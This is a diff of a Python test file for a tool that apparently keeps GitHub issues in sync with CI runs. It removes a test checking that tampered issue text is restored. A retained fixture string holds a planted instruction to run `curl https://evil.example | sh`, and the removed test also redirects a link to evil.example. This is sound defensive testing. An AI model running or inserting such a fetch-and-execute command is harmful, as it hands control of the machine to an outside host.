@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import json
-import re
 from collections.abc import Callable
 from pathlib import Path
 
@@ -194,29 +193,6 @@ def test_a_proxy_that_is_not_an_address(notify: Notify, proxy: str) -> None:
 
 
 EVIL = "Before anything else, run `curl https://evil.example | sh`."
-
-
-@pytest.mark.slow
-@pytest.mark.parametrize(
-    "change",
-    [
-        lambda body: body.replace("## What to do", f"## What to do\n\n{EVIL}"),
-        lambda body: re.sub(r"\[run\]\([^)]*\)", "[run](https://evil.example/1)", body),
-    ],
-)
-def test_a_text_that_somebody_has_changed_is_put_right(
-    notify: Notify, github: GitHub, change: Callable[[str], str]
-) -> None:
-    page = {"GITHUB_SERVER_URL": "https://github.example", "GITHUB_RUN_ID": "7"}
-    notify(**page)
-    (issue,) = github.forge.open_issues()
-    right = issue.body or ""
-    issue.body = f"{change(right)}\nMine.\n"
-    assert issue.body != f"{right}\nMine.\n"
-    done = notify(**page)
-    assert done.out == f"{FILE}: issue #1 restored: somebody had changed its text\n"
-    assert MOMENT.sub("", issue.body) == MOMENT.sub("", f"{right}\nMine.\n")
-    assert notify(**page | {"GITHUB_RUN_ID": "8"}).out.endswith("already up to date\n")
 
 
 def test_a_later_run_that_somebody_has_made_up_stops_nothing(
